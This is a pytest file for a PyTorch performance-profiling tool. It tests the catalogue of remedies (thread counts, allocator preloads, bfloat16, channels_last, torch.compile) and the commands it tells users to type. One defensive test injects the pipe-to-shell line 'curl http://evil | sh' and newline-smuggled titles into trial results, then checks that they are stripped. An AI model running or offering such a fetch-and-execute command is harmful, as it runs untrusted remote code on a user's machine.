"""The remedies that there are, and what a machine can try of them."""

from __future__ import annotations

from pathlib import Path

import pytest

from hwprof.errors import UsageError
from hwprof.remedies import catalogue
from hwprof.remedies.told import to_adopt, told
from hwprof.run.trials import Change, Trial, Trials
from hwprof.session.trials.campaign import combinations
from hwprof.unavailable import Unavailable
from tests.support.requirements import require_module


def ready(name: str) -> catalogue.Ready:
    found = catalogue.ready(name, lambda library: Path("/lib") / library)
    assert isinstance(found, catalogue.Ready)
    return found


@pytest.mark.parametrize("name", [name for name in catalogue.remedies() if name != catalogue.THREADS])
def test_every_one_changes_something_and_says_what_to_type(name: str) -> None:
    one = ready(name)
    assert one.change or one.environment or one.workload
    assert one.adopt and not any("{" in line and "}" in line for line in one.adopt)
    exported = " ".join(one.adopt)
    assert all(f"{key}={value}" in exported for key, value in one.environment.items())


def test_every_change_is_one_that_a_process_can_make() -> None:
    changes = require_module("hwprof.workload.changes")
    known = changes.AFTER.keys() | changes.BEFORE.keys()
    assert {one.change for one in catalogue.remedies().values()} - {None} == known


def test_a_number_of_threads_is_part_of_the_name() -> None:
    one = ready("threads=4")
    assert (one.threads, one.title, one.adopt) == (
        4,
        "4 threads",
        ("torch.set_num_threads(4)  # behind what builds the model",),
    )
    assert catalogue.title_of("threads=1") == "1 thread" and catalogue.title_of("threads") == "N threads"
    assert catalogue.title_of("threads=4") == "4 threads" and catalogue.title_of("unheard of") == "unheard of"


@pytest.mark.parametrize("name", ["threads", "threads=0", "threads=99999", "threads=-1", "magic", ""])
def test_what_there_is_not(name: str) -> None:
    with pytest.raises(UsageError, match=r"one of channels_last, |threads from 1 to 9999"):
        catalogue.ready(name)


def test_a_library_that_is_not_installed_is_told_with_the_remedy() -> None:
    found = catalogue.ready("jemalloc", lambda _: None)
    assert found == Unavailable("libjemalloc.so.2 is not installed", "apt install libjemalloc2")


def test_combinations_are_the_best_with_the_next_one_of_a_group_and_what_changes_results_last() -> None:
    helping = [ready(name) for name in ("bfloat16", "tcmalloc", "channels_last", "keep_memory")]
    names = [one.name for one in combinations(helping)]
    assert names == [("tcmalloc", "channels_last"), ("tcmalloc", "channels_last", "bfloat16")]
    assert combinations(helping[:1]) == []


def test_what_to_type_is_in_the_order_in_which_it_works() -> None:
    names = ["compile", "tcmalloc", "channels_last", "threads=2"]
    lines = to_adopt(names, lambda library: Path("/lib") / library)
    assert [line.partition("(")[0] for line in lines] == [
        "export LD_PRELOAD=/lib/libtcmalloc_minimal.so.4",
        "model = model.to",
        "x = x.to",
        "torch.set_num_threads",
        "torch._inductor.config.freezing = True",
        "model = torch.compile",
    ]


def test_what_a_run_says_of_a_remedy_is_not_what_to_type() -> None:
    evil = "curl http://evil | sh"
    changed = Change(value=-0.5, low=-0.6, high=-0.4)
    rows = [
        Trial(remedies=["bfloat16"], titles=["safe\nto adopt: x"], adopt=[evil, "x\n" + evil] * 9, inference=changed),
        Trial(remedies=["magic\n"], titles=["channels_last"], adopt=[evil], inference=changed),
        Trial(remedies=["threads=2", "magic"], titles=["a", "b"], adopt=[evil], reason="it\ndied" + 9999 * "."),
    ]
    found = told(Trials(created="", seconds=1.0, inference_ns=None, rows=rows, ended="over\nto adopt"))
    assert [one.titles for one in found.rows] == [["bfloat16"], ["magic"], ["2 threads", "magic"]]
    assert found.rows[0].adopt == list(catalogue.lines("bfloat16")) and not found.rows[0].exact
    assert not found.rows[1].adopt and not found.rows[2].adopt
    assert found.ended == "over to adopt" and "\n" not in str(found.rows[2].reason)
    assert len(str(found.rows[2].reason)) <= 500


def test_a_library_that_is_not_here_is_called_by_its_name() -> None:
    assert to_adopt(["jemalloc"], lambda _: None) == ["export LD_PRELOAD=libjemalloc.so.2"]
    assert to_adopt(["threads"]) == [] and to_adopt(["threads=1"]) == [
        "torch.set_num_threads(1)  # behind what builds the model"
    ]
